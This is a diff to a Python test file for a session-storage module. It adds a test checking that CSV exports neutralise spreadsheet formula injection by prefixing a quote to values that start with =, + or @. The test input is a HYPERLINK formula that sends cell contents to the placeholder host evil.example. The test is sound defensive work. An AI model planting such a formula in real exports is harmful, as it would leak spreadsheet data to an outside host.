@@ -1,6 +1,7 @@
 """Storage keeps every accepted row (locked database, full disk, restart), reviews and exports sessions."""
 from __future__ import annotations
 
+import csv
 import inspect
 import json
 import os
@@ -322,6 +323,22 @@ def test_csv_streams_every_row_across_pages_with_equal_times(repo, monkeypatch):
     times = [float(line.split(",")[1]) for line in lines[1:]]
     assert times == sorted(times) and times.count(100.0) == 4 and times[-1] == 107.0
     assert lines[1].startswith("1970-01-01T00:01:40.000Z,100.000,p1,P1,1,0.0000,")
+
+
+def test_names_that_look_like_formulas_stay_plain_text_in_csv(repo):
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    sid = new_session(repo, people=())
+    repo.add_participant(sid, "p1", evil)
+    repo.add_participant(sid, "p2", "Ana-Maria")
+    repo.add_samples(samples(sid, "p1", 1, 100.0) + samples(sid, "p2", 1, 100.5))
+    repo.add_alert(AlertRecord("a1", sid, 101.0, "student", "confusion", evil + " seems confused", 0.6, "p1", evil))
+    repo.add_alert(AlertRecord("a2", sid, 102.0, "student", "boredom", "+1 bored", 0.6, "p2", "@home"))
+    assert repo.flush()
+    sample_rows = list(csv.DictReader(repo.iter_samples_csv(sid)))
+    assert [r["name"] for r in sample_rows] == ["'" + evil, "Ana-Maria"]
+    alert_rows = list(csv.DictReader(repo.iter_alerts_csv(sid)))
+    assert [(r["name"], r["message"]) for r in alert_rows] == [
+        ("'" + evil, "'" + evil + " seems confused"), ("'@home", "'+1 bored")]
 
 
 def test_export_cli_writes_csv_json_and_rejects_bad_input(repo, db, tmp_path):
